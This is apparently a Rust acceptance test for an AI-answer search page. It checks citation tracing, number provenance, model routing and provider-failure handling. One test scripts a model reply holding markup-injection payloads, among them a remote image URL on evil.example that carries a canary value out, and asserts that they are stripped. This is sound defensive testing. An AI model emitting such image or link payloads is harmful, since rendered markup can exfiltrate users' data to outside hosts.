//! Gate 14 (§10, §8.4, §8.5, §8.2, §8.8): every sentence of an answer cites a passage on its list, an all-dropped answer says so, every number traces to a passage it cites, no markup a model wrote renders, and every character of a fact box is in the passage it cites.
//!
//! End to end in the simulator: memoria with AI on against the stub
//! provider ([`crate::rigs::answer`]), Sheets holding items of known text,
//! and the stub scripted with the reply a case needs. Each case reads the
//! rendered page, as a reader would, and the stub's recorded requests.
//! Numbers trace to passages, and a numeric answer's digits to a passage
//! an operand cites or to the S6 result (§8.7); nothing else may bring one.

use memoria_simulator::{ChatFaults, OWNERS, ProviderDown as Down};

use crate::rigs::answer::{ITEMS, NamedFault, body, marker, number, question, ranks, world};
use crate::rigs::page::Page;
use crate::rigs::sim::{check, fail, run_world};
use crate::{Case, Ctx, Failure, Gate};

/// Gate 14.
pub static GATE: Gate = Gate {
    id: "14",
    title: "Answer sentences cite listed passages",
    gates_md: &[
        "Answer sentences cite listed passages; an all-dropped answer says so; every digit traces to a cited passage or an S6 result; every character of the fact box traces to a cited passage",
    ],
    sections: &["§10", "§8.4", "§8.5", "§8.2", "§8.7", "§8.8"],
    requirement: "With AI on, every rendered answer sentence cites a passage on the page's list and links to it; an answer whose every sentence was dropped says so; every number in an answer is in a passage its sentence cites, and every number of a numeric answer is S6's or in a passage an operand cites; no image, link or HTML a model wrote renders; the route and pinned model are printed; a failed provider leaves the list and one loud line; every character of a fact box is in the passage it cites.",
    cases: &[
        Case {
            id: "14/every-rendered-sentence-cites-a-listed-passage",
            desc: "Four items make a synthesis page. The model answers four sentences: one citing [1], one citing nothing, one citing [9] (never sent) and one citing [1, 2]. The page renders exactly the two cited ones, each citation linking to the deep link of the result at that rank, says 2 sentences were dropped, and neither dropped sentence's words are anywhere on the page.",
            run: every_sentence_cites,
        },
        Case {
            id: "14/an-all-dropped-answer-says-so",
            desc: "The model answers with sentences that cite nothing or only [12]. The page shows the list, no answer sentence, and a line saying the model's answer was dropped whole: never an empty paragraph that reads as AI off.",
            run: all_dropped,
        },
        Case {
            id: "14/every-number-traces-to-a-cited-passage",
            desc: "Each item holds a number of its own. The model answers each item's number cited to that item, the same number cited to another item, and a sum of two (a number no passage holds). Only the first kind renders; every number on the answer is in the text of a passage its sentence cites.",
            run: every_number_traces,
        },
        Case {
            id: "14/a-models-images-links-and-html-never-render",
            desc: "The model answers with a remote image carrying the canary in its URL, a Markdown link, raw HTML and a bare URL, each in a cited sentence. The sentences render (presence), with no image, no link but memoria's own citations, no tag, and the host and the canary's URL nowhere on the page; a line says markup was removed.",
            run: markup_never_renders,
        },
        Case {
            id: "14/the-route-and-the-pinned-model-are-printed-on-the-answer",
            desc: "A question over four documents is a synthesis: the request names model.frontier and the answer prints \"Route: synthesis · TensorX · deepseek/deepseek-v4-pro-0813\". A question only one item answers is single source: model.cheap, printed likewise.",
            run: route_and_model_printed,
        },
        Case {
            id: "14/a-failed-provider-leaves-the-list-and-one-loud-line",
            desc: "With the provider answering 503, dropping the connection, slower than the answer's deadline, 429 on every attempt, a malformed body and a 5 MB body, each search is a 200 with the same results as the provider's good answer gave and exactly one line naming TensorX and what failed, and no answer.",
            run: failed_provider,
        },
        Case {
            id: "14/a-model-free-route-calls-no-model",
            desc: "Presence: a question calls the model once. Then a navigational query, a numeric one and a who-knows one each call no model and print their route with \"no model called\"; a second page and the live fragment of the question call none either.",
            run: model_free_routes,
        },
        Case {
            id: "14/every-character-of-a-fact-box-is-in-the-passage-it-cites",
            desc: "Items hold office phone numbers. Each fact row's value and label are found byte for byte in the passage its citation opens on the document page (section#p{n}), and the box is not empty.",
            run: fact_box_traces,
        },
        Case {
            id: "14/every-digit-of-a-numeric-answer-traces-to-a-cited-passage-or-s6",
            desc: "§8.7's worked example in Sheets: \"what's average revenue in June the last 3 years\" shows S6's number. Every number in the answer line and its basis is S6's display (€1,350,000, the fake's own answer for the worked example) or is in a passage an operand's citation opens on the document page; there are three such citations.",
            run: numeric_digits_trace,
        },
    ],
};

fn ana() -> &'static str {
    OWNERS[0]
}

/// The page for `q` as Ana, parsed.
async fn page(m: &mut memoria_simulator::Memoria, q: &str) -> (u16, String, Page) {
    let p = m.search(ana(), q).await;
    let body = p.response.body.clone();
    (p.response.status.as_u16(), body.clone(), Page::parse(&body))
}

fn every_sentence_cites(ctx: &mut Ctx) -> Result<(), Failure> {
    let canary = ctx.canary();
    let (world, _, stub) = world(ctx.seed(), &canary, ITEMS);
    let q = question(&canary);
    run_world(&world, move |mut m| async move {
        m.warmed_up().await?;
        stub.push_chat_reply(&format!(
            "The plan changed for cost [1]. Nothing cites uncitedword{canary}. A ninth says ninthword{canary} [9]. Both agree on it [1, 2]."
        ));
        let (_, body, p) = page(&mut m, &q).await;
        let links: Vec<String> = p.citations().iter().map(|c| c.link.clone()).collect();
        let sentences = p.answer_sentences();
        check(
            sentences.len() == 2,
            "the two cited sentences render",
            format!("{sentences:?}"),
        )?;
        check(
            sentences[0].1 == [links[0].clone()]
                && sentences[1].1 == [links[0].clone(), links[1].clone()],
            "each citation links to the deep link of the result at its rank",
            format!("{sentences:?} against {links:?}"),
        )?;
        for (_, hrefs) in &sentences {
            check(
                !hrefs.is_empty() && hrefs.iter().all(|h| links.contains(h)),
                "every rendered sentence cites a passage on the list",
                format!("{hrefs:?}"),
            )?;
        }
        check(
            p.texts("p.answer-dropped")
                .iter()
                .any(|t| t.starts_with("2 sentences")),
            "the page says 2 sentences were dropped",
            format!("{:?}", p.texts("p.answer-dropped")),
        )?;
        check(
            !body.contains(&format!("uncitedword{canary}"))
                && !body.contains(&format!("ninthword{canary}")),
            "neither dropped sentence's words are on the page",
            "one is",
        )
    })
}

fn all_dropped(ctx: &mut Ctx) -> Result<(), Failure> {
    let canary = ctx.canary();
    let (world, _, stub) = world(ctx.seed(), &canary, ITEMS);
    let q = question(&canary);
    run_world(&world, move |mut m| async move {
        m.warmed_up().await?;
        stub.push_chat_reply("Nothing here cites. Neither does this [12].");
        let (_, _, p) = page(&mut m, &q).await;
        check(
            stub.chat_calls() == 1,
            "the model was asked (presence)",
            format!("{} calls", stub.chat_calls()),
        )?;
        check(
            p.citations().len() == ITEMS,
            "the list renders",
            format!("{} results", p.citations().len()),
        )?;
        check(
            p.answer_sentences().is_empty(),
            "no answer sentence renders",
            format!("{:?}", p.answer_sentences()),
        )?;
        let empty = p.texts("section.answer p.answer-empty");
        check(
            empty.len() == 1 && empty[0].contains("dropped whole"),
            "one line says the model's answer was dropped whole",
            format!("{empty:?}"),
        )
    })
}

fn every_number_traces(ctx: &mut Ctx) -> Result<(), Failure> {
    let canary = ctx.canary();
    let (world, _, stub) = world(ctx.seed(), &canary, ITEMS);
    let q = question(&canary);
    run_world(&world, move |mut m| async move {
        m.warmed_up().await?;
        let (_, _, first) = page(&mut m, &q).await;
        let rank = ranks(&first, ITEMS);
        check(
            rank.len() == ITEMS,
            "every item is on the list",
            format!("{rank:?}"),
        )?;
        // Item i's number cited to item i (kept), to item i+1 (dropped),
        // and a sum no passage holds (dropped).
        let mut reply = String::new();
        for i in 0..ITEMS {
            let other = (i + 1) % ITEMS;
            reply.push_str(&format!(
                "Budget {} [{}]. Budget {} again [{}]. ",
                number(i),
                rank[&i],
                number(i),
                rank[&other]
            ));
        }
        // A sum, a traced number beside an untraced one, digits of another
        // script, a digit glued to letters, and a number inside a longer one.
        let r0 = rank[&0];
        reply.push_str(&format!(
            "Together 9,999,999 [{r0}]. Budget {} and 9,999,999 [{r0}]. Budget \u{663}\u{66c}\u{660}\u{660}\u{660} [{r0}]. Q7 rose [{r0}]. It was {} [{r0}].",
            number(0),
            &number(0)[2..]
        ));
        stub.push_chat_reply(&reply);
        let (_, _, p) = page(&mut m, &q).await;
        let links: Vec<String> = p.citations().iter().map(|c| c.link.clone()).collect();
        let sentences = p.answer_sentences();
        check(
            sentences.len() == ITEMS,
            format!("the {ITEMS} traced sentences render"),
            format!("{sentences:?}"),
        )?;
        for (text, hrefs) in &sentences {
            let cited: Vec<String> = hrefs
                .iter()
                .filter_map(|h| links.iter().position(|l| l == h))
                .filter_map(|k| rank.iter().find(|(_, r)| **r == k + 1).map(|(i, _)| *i))
                .map(|i| body(&canary, i))
                .collect();
            for n in numbers_in(text) {
                check(
                    cited.iter().any(|b| b.contains(&n)),
                    "every number in a rendered sentence is in a passage it cites",
                    format!("{n:?} in {text:?}"),
                )?;
            }
        }
        check(
            sentences
                .iter()
                .all(|(t, _)| !t.contains("9,999,999") && !t.contains("again")),
            "the sum and the miscited numbers are not rendered",
            format!("{sentences:?}"),
        )?;
        // A number the asker typed is not a passage's: the question's
        // digits trace to nothing.
        let q2 = format!("why did the {canary} plan change in 2031?");
        let (_, _, first) = page(&mut m, &q2).await;
        let rank = ranks(&first, ITEMS);
        stub.push_chat_reply(&format!(
            "In 2031 it changed [{}]. Budget {} [{}].",
            rank[&0],
            number(0),
            rank[&0]
        ));
        let (_, _, p) = page(&mut m, &q2).await;
        let sentences = p.answer_sentences();
        check(
            sentences.len() == 1 && sentences[0].0.contains(&number(0)),
            "only the traced sentence renders: the question's own number traces to no passage",
            format!("{sentences:?}"),
        )
    })
}

/// Numbers in a rendered sentence, its `[n]` citation marks aside.
fn numbers_in(text: &str) -> Vec<String> {
    let mut out = Vec::new();
    let mut cur = String::new();
    let mut in_cite = false;
    let chars: Vec<char> = text.chars().collect();
    for (k, c) in chars.iter().enumerate() {
        match c {
            '[' => in_cite = true,
            ']' => in_cite = false,
            _ if in_cite => {}
            d if d.is_numeric() => cur.push(*d),
            ',' | '.' if !cur.is_empty() && chars.get(k + 1).is_some_and(|n| n.is_numeric()) => {
                cur.push(*c)
            }
            _ => {
                if !cur.is_empty() {
                    out.push(std::mem::take(&mut cur));
                }
            }
        }
    }
    if !cur.is_empty() {
        out.push(cur);
    }
    out
}

fn markup_never_renders(ctx: &mut Ctx) -> Result<(), Failure> {
    let canary = ctx.canary();
    let (world, _, stub) = world(ctx.seed(), &canary, ITEMS);
    let q = question(&canary);
    run_world(&world, move |mut m| async move {
        m.warmed_up().await?;
        stub.push_chat_reply(&format!(
            "See the plan ![chart](https://evil.example/p.png?d={canary}) [1]. Read [the notes](https://evil.example/r) first [1]. It held <img src=\"https://evil.example/i\"><b>firm</b> [2]. Go to https://evil.example/u now [2]. Entity &lt;img src=&quot;https://evil.example/e&quot;&gt; here [2]. Or WWW.evil.example/w too [2].\n\nhttps://evil.example/n holds it [3]. See:https://evil.example/c [3]."
        ));
        let (_, body, p) = page(&mut m, &q).await;
        let sentences = p.answer_sentences();
        check(
            sentences.len() == 8,
            "the eight cited sentences render (presence)",
            format!("{sentences:?}"),
        )?;
        check(
            !body.to_ascii_lowercase().contains("evil.example")
                && !body.contains(&format!("d={canary}")),
            "the host and the image's URL are nowhere on the page",
            "they are",
        )?;
        let links: Vec<String> = p.citations().iter().map(|c| c.link.clone()).collect();
        let answer_links = p.hrefs("section.answer a");
        check(
            answer_links.iter().all(|h| links.contains(h)),
            "the answer's only links are its citations",
            format!("{answer_links:?}"),
        )?;
        check(
            p.tags("section.answer img").is_empty() && p.tags("section.answer b").is_empty(),
            "no image and no tag the model wrote is in the answer",
            "one is",
        )?;
        check(
            p.texts("p.answer-stripped").len() == 1,
            "a line says the model's markup was removed",
            format!("{:?}", p.texts("p.answer-stripped")),
        )
    })
}

fn route_and_model_printed(ctx: &mut Ctx) -> Result<(), Failure> {
    let canary = ctx.canary();
    let (world, _, stub) = world(ctx.seed(), &canary, ITEMS);
    let q = question(&canary);
    let one = format!("why did {} move?", marker(&canary, 2));
    run_world(&world, move |mut m| async move {
        m.warmed_up().await?;
        stub.set_chat_default_reply(Some("It changed [1]."));
        let (_, _, p) = page(&mut m, &q).await;
        let meta = p.texts("section.answer p.answer-meta");
        let models: Vec<Option<String>> = stub
            .chat_requests()
            .iter()
            .map(|r| r.model.clone())
            .collect();
        check(
            models == [Some(memoria::MODEL_FRONTIER.to_string())],
            "a synthesis question asks model.frontier",
            format!("{models:?}"),
        )?;
        check(
            meta.len() == 1
                && meta[0].starts_with(&format!(
                    "Route: synthesis · TensorX · {}",
                    memoria::MODEL_FRONTIER
                )),
            "the answer prints its route, the provider and the frontier id",
            format!("{meta:?}"),
        )?;
        // Exactly three documents is a synthesis (§8.2: "≥3").
        let three = format!(
            "why did {} {} {} move?",
            marker(&canary, 0),
            marker(&canary, 1),
            marker(&canary, 3)
        );
        let (_, _, p) = page(&mut m, &three).await;
        let last = stub.chat_requests().last().and_then(|r| r.model.clone());
        check(
            p.citations().len() == 3 && last.as_deref() == Some(memoria::MODEL_FRONTIER),
            "a question over exactly three documents asks model.frontier",
            format!("{} results, {last:?}", p.citations().len()),
        )?;
        let (_, _, p) = page(&mut m, &one).await;
        check(
            p.citations().len() == 1,
            "the single-source question finds one item",
            format!("{} results", p.citations().len()),
        )?;
        let meta = p.texts("section.answer p.answer-meta");
        let last = stub.chat_requests().last().and_then(|r| r.model.clone());
        check(
            last.as_deref() == Some(memoria::MODEL_CHEAP),
            "a single-source question asks model.cheap",
            format!("{last:?}"),
        )?;
        check(
            meta.len() == 1
                && meta[0].starts_with(&format!(
                    "Route: single source · TensorX · {}",
                    memoria::MODEL_CHEAP
                )),
            "the answer prints the single-source route and the cheap id",
            format!("{meta:?}"),
        )
    })
}

fn failed_provider(ctx: &mut Ctx) -> Result<(), Failure> {
    let canary = ctx.canary();
    let (world, _, stub) = world(ctx.seed(), &canary, ITEMS);
    let q = question(&canary);
    run_world(&world, move |mut m| async move {
        m.warmed_up().await?;
        stub.set_chat_default_reply(Some("It changed [1]."));
        let (_, _, good) = page(&mut m, &q).await;
        let listed = good.citations();
        check(
            good.answer_sentences().len() == 1 && listed.len() == ITEMS,
            "with the provider well, the page answers above its list (presence)",
            format!("{:?}", good.answer_sentences()),
        )?;
        let faults: [NamedFault; 8] = [
            ("503", |s| s.set_chat_down(Some(Down::Status(503))), "503"),
            (
                "a dropped connection",
                |s| s.set_chat_down(Some(Down::Refuse)),
                "could not be reached",
            ),
            (
                "past the deadline",
                |s| s.set_chat_slow(Some(memoria::answer::ANSWER_DEADLINE_MS + 1_000)),
                "within 12000 ms",
            ),
            (
                "429 on every attempt",
                |s| s.chat_rate_limit_next(10),
                "429",
            ),
            (
                "a malformed body",
                |s| s.set_chat_malformed(true),
                "not a chat completion",
            ),
            ("a 5 MB body", |s| s.set_chat_oversized(true), "is over"),
            (
                "an empty completion",
                |s| s.set_chat_default_reply(Some("")),
                "no reply text",
            ),
            (
                "a reply cut at its length limit",
                |s| s.set_chat_truncated(true),
                "length limit",
            ),
        ];
        for (name, set, named) in faults {
            stub.set_chat_faults(ChatFaults::default());
            stub.set_chat_default_reply(Some("It changed [1]."));
            set(&stub);
            let (status, _, p) = page(&mut m, &q).await;
            check(
                status == 200,
                format!("with {name}, the page is a 200"),
                format!("{status}"),
            )?;
            check(
                p.citations() == listed,
                format!("with {name}, the list is the one the good answer sat above"),
                format!("{} results", p.citations().len()),
            )?;
            let loud = p.texts("p.answer-failed");
            check(
                loud.len() == 1
                    && loud[0].starts_with("No answer: TensorX")
                    && loud[0].contains(named),
                format!("with {name}, one loud line names TensorX and what failed ({named:?})"),
                format!("{loud:?}"),
            )?;
            check(
                p.section("section.answer").is_none(),
                format!("with {name}, no answer renders"),
                "one does",
            )?;
        }
        stub.set_chat_faults(ChatFaults::default());
        Ok(())
    })
}

fn model_free_routes(ctx: &mut Ctx) -> Result<(), Failure> {
    let canary = ctx.canary();
    let (world, _, stub) = world(ctx.seed(), &canary, ITEMS);
    let q = question(&canary);
    run_world(&world, move |mut m| async move {
        m.warmed_up().await?;
        page(&mut m, &q).await;
        check(
            stub.chat_calls() == 1,
            "the question called the model once (presence)",
            format!("{} calls", stub.chat_calls()),
        )?;
        for (route, query) in [
            ("navigational", format!("where is the {canary} plan")),
            ("numeric", format!("what is the average {canary} budget")),
            ("who knows", format!("who knows about the {canary} plan")),
            ("navigational", format!("Where is the {canary} plan")),
            ("numeric", format!("How many {canary} plans are there")),
            ("who knows", format!("Who wrote the {canary} plan")),
        ] {
            let (_, _, p) = page(&mut m, &query).await;
            let line = p.texts("p.answer-route");
            check(
                line.len() == 1
                    && line[0].starts_with(&format!("Route: {route} · no model called")),
                format!("the {route} query prints its route and that no model was called"),
                format!("{line:?}"),
            )?;
            check(
                p.citations().len() == ITEMS,
                format!("the {route} query lists the items"),
                format!("{} results", p.citations().len()),
            )?;
        }
        let uri = format!("/search?q={}", memoria::testkit::form_encode(&q));
        let fragment = m.get(ana(), &uri).await.response.body;
        check(
            Page::parse(&fragment).citations().len() == ITEMS,
            "the live fragment lists the items (presence)",
            "it does not",
        )?;
        let uri = format!("/?q={}&page=2", memoria::testkit::form_encode(&q));
        m.get(ana(), &uri).await;
        check(
            stub.chat_calls() == 1,
            "no model-free route, second page or live fragment called the model",
            format!("{} calls", stub.chat_calls()),
        )
    })
}

fn fact_box_traces(ctx: &mut Ctx) -> Result<(), Failure> {
    let canary = ctx.canary();
    let (world, sheets, _stub) = world(ctx.seed(), &canary, 0);
    let phones = ["+353 1 547 7801", "+353 1 547 7802"];
    sheets.model().with(|m| {
        for (i, n) in phones.iter().enumerate() {
            let label = ["reception", "kitchen"][i];
            m.add_item(
                &format!("ph-{i}"),
                memoria_simulator::Rung::Team,
                &format!("Desk {i}"),
                &format!("# Desk {i}\n\nThe {canary} {label} line: {n}\n"),
            )
            .expect("item");
        }
    });
    let q = format!("{canary} phone");
    run_world(&world, move |mut m| async move {
        m.warmed_up().await?;
        let (_, _, p) = page(&mut m, &q).await;
        let values = p.texts("li.fact-row strong.fact-value");
        let labels = p.texts("li.fact-row span.fact-label");
        let cites = p.hrefs("li.fact-row a.fact-cite");
        check(
            values.len() == phones.len() && cites.len() == values.len(),
            "the box holds a row per number, each with a citation",
            format!("{values:?} {cites:?}"),
        )?;
        for ((value, label), cite) in values.iter().zip(&labels).zip(&cites) {
            let (path, anchor) = cite
                .split_once('#')
                .ok_or_else(|| fail("a citation names its passage", cite.clone()))?;
            let doc = m.get(ana(), path).await.response.body;
            let passage = Page::parse(&doc).texts(&format!("section.passage#{anchor}"));
            check(
                passage.len() == 1 && passage[0].contains(value.as_str()),
                "the row's value is in the passage its citation opens, byte for byte",
                format!("{value:?} in {passage:?}"),
            )?;
            check(
                passage[0].contains(label.trim_end_matches(':')),
                "the row's label is in that passage too",
                format!("{label:?} in {passage:?}"),
            )?;
        }
        Ok(())
    })
}

/// The S6 half (§8.7): every digit of a numeric answer traces to a cited
/// passage or to the S6 result.
fn numeric_digits_trace(ctx: &mut Ctx) -> Result<(), Failure> {
    /// The S6 result for the worked example's June revenue, as the fake
    /// computes and renders it (`memoria_simulator::worked_example`).
    const S6_DISPLAY: &str = "€1,350,000";
    let world = memoria_simulator::World::new(
        ctx.seed(),
        vec![memoria_simulator::SiblingSpec::own("sheets")],
    );
    world.fake("sheets").model().with(|m| {
        m.add_worked_example().expect("the worked example");
    });
    run_world(&world, move |mut m| async move {
        m.warmed_up().await?;
        let (_, _, p) = page(&mut m, "what's average revenue in June the last 3 years").await;
        let figure = p.texts(".numeric-figure");
        check(
            figure == [S6_DISPLAY],
            "a number is shown, and it is S6's display (presence)",
            format!("{figure:?}"),
        )?;
        let cites = p.hrefs("a.numeric-cite");
        check(
            cites.len() == 3,
            "three operands, each cited",
            format!("{cites:?}"),
        )?;
        let mut passages = vec![];
        for cite in &cites {
            let (path, anchor) = cite
                .split_once('#')
                .ok_or_else(|| fail("a citation names its passage", cite.clone()))?;
            let doc = m.get(ana(), path).await.response.body;
            passages.extend(Page::parse(&doc).texts(&format!("section.passage#{anchor}")));
        }
        check(
            passages.len() == 3,
            "each citation opens its passage",
            format!("{passages:?}"),
        )?;
        let s6 = numbers_in(S6_DISPLAY);
        let mut said = p.texts("p.numeric-value");
        said.extend(p.texts("p.numeric-basis"));
        for text in &said {
            for n in numbers_in(text) {
                check(
                    s6.contains(&n) || passages.iter().any(|b| b.contains(&n)),
                    "every number in the numeric answer is S6's or in a passage it cites",
                    format!("{n:?} in {text:?}"),
                )?;
            }
        }
        Ok(())
    })
}

#[cfg(test)]
mod tests {
    use super::numbers_in;

    #[test]
    fn numbers_in_a_sentence_skip_its_citation_marks() {
        assert_eq!(numbers_in("Budget 1,137 euro. [2] [3]"), vec!["1,137"]);
        assert_eq!(numbers_in("In 2024."), vec!["2024"]);
    }
}
